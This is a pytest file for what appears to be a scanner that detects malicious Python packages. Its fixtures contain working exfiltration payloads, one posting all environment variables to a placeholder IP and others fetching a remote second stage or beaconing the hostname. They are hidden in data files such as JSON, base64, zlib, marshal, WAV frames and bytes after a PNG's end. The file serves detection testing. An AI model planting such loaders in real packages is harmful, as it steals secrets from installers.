"""Files of data that code runs are read as that code, in the phase in which it does."""

# ruff: noqa: E501, ISC004 - a case is read best as it is written

from __future__ import annotations

import base64
import io
import json
import marshal
import wave
import zlib
from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.facts.payload import contents, is_python, wave_frames
from pratique.finding import Phase
from pratique.screen import screen_bytes
from pratique.verdict import Report, Verdict
from tests.support.distributions import make_sdist, make_wheel_of

_CODE = b"import os, urllib.request as u\nu.urlopen('http://192.0.2.1/', data=str(dict(os.environ)).encode())\n"
_TEXT = base64.b64encode(_CODE)
_MODULE = "example_pkg/__init__.py"
_PNG = b"\x89PNG\r\n\x1a\n" + bytes(60) + b"IEND\xaeB`\x82"


def _wav(frames: bytes) -> bytes:
    into = io.BytesIO()
    with wave.open(into, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8000)
        sound.writeframes(frames)
    return into.getvalue()


def _marshalled(code: bytes) -> bytes:
    return marshal.dumps(compile(code, "x", "exec"))


def _screened(source: str, files: Mapping[str, bytes]) -> Report:
    data = make_wheel_of({_MODULE: source.encode(), **{f"example_pkg/{k}": v for k, v in files.items()}})
    return screen_bytes(data, filename="example_pkg-1.0-py3-none-any.whl")


@pytest.mark.parametrize(
    ("source", "name", "data"),
    [
        ("exec(open('example_pkg/x.txt').read())", "x.txt", _CODE),
        ("import os\nexec(open(os.path.join(os.path.dirname(__file__), 'x.dat')).read())", "x.dat", _CODE),
        (
            "import base64\nfrom pathlib import Path\n"
            "exec(base64.b64decode((Path(__file__).parent / 'x.bin').read_bytes()))",
            "x.bin",
            _TEXT,
        ),
        (
            "import pkgutil, zlib\nexec(zlib.decompress(pkgutil.get_data(__name__, 'x.bin')))",
            "x.bin",
            zlib.compress(_CODE),
        ),
        (
            "import json, base64\nd = json.load(open('example_pkg/c.json'))\nexec(base64.b64decode(d['k']))",
            "c.json",
            json.dumps({"a": 1, "k": _TEXT.decode()}).encode(),
        ),
        ("import marshal\nexec(marshal.load(open('example_pkg/x.bin', 'rb')))", "x.bin", _marshalled(_CODE)),
        (
            "import wave, base64\nw = wave.open('example_pkg/a.wav')\nexec(base64.b64decode(w.readframes(9)))",
            "a.wav",
            _wav(_TEXT),
        ),
        ("exec(open('example_pkg/l.png', 'rb').read().split(b'IEND')[1][4:])", "l.png", _PNG + _CODE),
        (
            "exec(open('example_pkg/t.txt').read().format(name='A', size=1))",
            "t.txt",
            b"class {name}:\n    size = {size:d}\n" + _CODE.replace(b"{", b"{{").replace(b"}", b"}}"),
        ),
        ("import runpy\nrunpy.run_path('example_pkg/x.txt')", "x.txt", _CODE),
        ("import subprocess, sys\nsubprocess.Popen([sys.executable, 'example_pkg/x.py'])", "x.py", _CODE),
    ],
)
def test_a_chain_behind_a_file_is_proven(source: str, name: str, data: bytes) -> None:
    """Whatever the file is and however it is packed: what it holds runs when the module is imported."""
    report = _screened(source, {name: data})
    assert report.verdict is Verdict.MALICIOUS
    assert (f"example_pkg/{name}", True) in {(f.path, f.proven) for f in report.findings if f.rule == "theft"}


def test_a_zip_application_runs_its_main() -> None:
    """An archive that is started is the module that Python starts in it."""
    source = "import subprocess, sys\nsubprocess.Popen([sys.executable, 'example_pkg/tool.pyz'])\n"
    application = b"#!/usr/bin/env python3\n" + make_wheel_of({"__main__.py": _CODE})
    found = [f for f in _screened(source, {"tool.pyz": application}).findings if f.proven]
    assert ("example_pkg/tool.pyz!/__main__.py", Phase.IMPORT) in {(f.path, f.phase) for f in found}


def test_what_lies_in_an_archive_is_held_until_something_reaches_it() -> None:
    """A nested wheel that nobody starts is in no phase, so its chain holds the file and does not block it."""
    report = _screened("", {"vendor.whl": make_wheel_of({"evil/__init__.py": _CODE})})
    assert report.verdict is Verdict.SUSPICIOUS
    assert {f.phase for f in report.findings if f.rule == "theft"} == {Phase.NONE}


def test_a_source_distribution_that_is_installed_runs_its_setup() -> None:
    """Installing a nested archive runs its ``setup.py``."""
    source = (
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'example_pkg/v-1.0.zip'])\n"
    )
    found = _screened(source, {"v-1.0.zip": make_wheel_of({"v-1.0/setup.py": _CODE})}).findings
    assert ("example_pkg/v-1.0.zip!/v-1.0/setup.py", Phase.IMPORT) in {(f.path, f.phase) for f in found if f.proven}


def test_every_text_in_a_file_is_read_by_itself() -> None:
    """A harmless text before the payload in the same file does not stand for it."""
    document = json.dumps({"a": "import json; print(json.dumps({}))", "b": _CODE.decode()}).encode()
    source = "import json\nfor text in json.load(open('example_pkg/c.json')).values():\n    exec(text)\n"
    assert _screened(source, {"c.json": document}).verdict is Verdict.MALICIOUS


def test_files_that_run_files_are_followed() -> None:
    """A chain of files ends in what the last of them does."""
    files = {"a.txt": b"exec(open('example_pkg/b.txt').read())\n", "b.txt": _CODE}
    assert _screened("exec(open('example_pkg/a.txt').read())", files).verdict is Verdict.MALICIOUS


def test_a_file_that_only_a_caller_runs_is_not_proven_by_its_phase() -> None:
    """The phase is that of the call, not of the module."""
    source = "def f():\n    exec(open('example_pkg/x.txt').read())\n"
    fetches = b"import urllib.request as u\nexec(u.urlopen('https://stage.example.invalid/a').read())\n"
    found = [f for f in _screened(source, {"x.txt": fetches}).findings if f.rule == "second-stage"]
    assert {(f.phase, f.proven) for f in found} == {(Phase.CALL, False)}


@pytest.mark.parametrize(
    ("source", "name", "data"),
    [
        ("exec(open('example_pkg/_version.py').read())", "_version.py", b"__version__ = '1.0'\n"),
        ("import json\nDATA = json.load(open('example_pkg/c.json'))\n", "c.json", json.dumps({"k": _CODE.decode()}).encode()),
        ("import base64\nICON = base64.b64decode(open('example_pkg/i.b64').read())\n", "i.b64", base64.b64encode(_PNG)),
    ],
)  # fmt: skip
def test_data_that_nobody_runs_proves_nothing(source: str, name: str, data: bytes) -> None:
    """Versions, settings and pictures."""
    assert not [f for f in _screened(source, {name: data}).findings if f.proven]


def test_frames_are_those_that_wave_reads() -> None:
    """The samples of a sound, as the standard library gives them."""
    assert wave_frames(_wav(b"abcd")) == b"abcd"
    assert wave_frames(b"RIFF....WAVE") == b""


@pytest.mark.parametrize(("text", "code"), [("import os", True), ("x = f(1)", False), ("print(1)", True), ("an import of goods", False)])  # fmt: skip
def test_python_is_told_from_text(text: str, code: bool) -> None:  # noqa: FBT001
    """Source parses and does something."""
    assert is_python(text) is code


@given(
    st.binary(max_size=400),
    st.sampled_from([b"", b"RIFF\0\0\0\0WAVE", b"\x89PNG\r\n\x1a\n", b"{", b"\xe3", b"GIF8", b"U\r\r\n"]),
)
def test_any_bytes_are_looked_into(data: bytes, head: bytes) -> None:
    """No bytes make it raise, and it ends."""
    assert next(iter(contents(head + data))).data == head + data
    assert len(list(contents(head + data))) < 100


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("[sys.executable, '-m', 'example_pkg.first']", "example_pkg/first.py"),
        ("'python -m example_pkg.first'", "example_pkg/first.py"),
        ("[sys.executable, '-m', 'example_pkg']", "example_pkg/__main__.py"),
    ],
)
def test_a_module_that_a_build_starts_by_name_is_read_as_part_of_the_build(command: str, path: str) -> None:
    """``python -m`` runs a module with its main guard, or the ``__main__`` of a package."""
    guarded = "import requests, socket\nif __name__ == '__main__':\n    requests.post('http://192.0.2.1/', data=socket.gethostname())\n"
    setup = f"import os, subprocess, sys\nsubprocess.call({command}, shell=True)\n"
    built = make_sdist("example-pkg", "1.0", {"setup.py": setup, path: guarded})
    found = screen_bytes(built.data, filename=built.filename).findings
    assert (path, Phase.INSTALL) in {(f.path, f.phase) for f in found if f.rule == "beacon"}


@pytest.mark.parametrize("imported", [False, True], ids=["started by people", "imported"])
def test_a_main_module_runs_by_itself_only_where_something_imports_it(imported: bool) -> None:  # noqa: FBT001 - a case
    """What ``python -m`` would run is called by people, unless a module of the package imports it."""
    init = b"import example_pkg.__main__\n" if imported else b"\n"
    main = b"import requests, socket\nrequests.post('http://192.0.2.1/', data=socket.gethostname())\n"
    data = make_wheel_of({_MODULE: init, "example_pkg/__main__.py": main})
    found = screen_bytes(data, filename="example_pkg-1.0-py3-none-any.whl").findings
    assert (Phase.IMPORT in {f.phase for f in found if f.rule == "beacon"}) is imported
